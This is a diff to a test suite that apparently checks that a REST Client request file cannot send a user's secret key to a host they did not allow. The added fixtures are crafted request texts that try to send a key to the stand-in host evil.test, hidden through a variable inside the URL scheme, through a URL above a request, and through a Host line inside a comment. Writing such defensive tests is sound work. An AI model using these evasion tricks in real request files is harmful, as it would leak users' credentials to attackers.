@@ -103,6 +103,15 @@ describe('A request file can’t send a key to a host that the user didn’t all
 			`# @name first\n${request('https://evil.test/')}\n###\n# @ref first\n${request('https://good.test/x')}`,
 			'evil.test',
 		],
+		'in a URL whose scheme contains a variable': [`@t = t\n\n###\nh{{t}}tps://evil.test/x\n${KEY}\n`, 'evil.test'],
+		'in a URL above a request, which REST Client sends': [
+			`@t = t\n\n###\nh{{t}}tps://evil.test/x\n${KEY}\n\nGET https://good.test/\n`,
+			'evil.test',
+		],
+		'in a multi-line comment, which is a path to REST Client': [
+			`/*\nHost: evil.test:443\n${KEY}\n*/\nGET https://good.test/\n`,
+			'evil.test',
+		],
 		'in another request of the file': [`${request('https://good.test/')}\n###\n${request('https://evil.test/')}`, 'evil.test'],
 	};
 	for (const [title, [text, host]] of Object.entries(foreign)) {
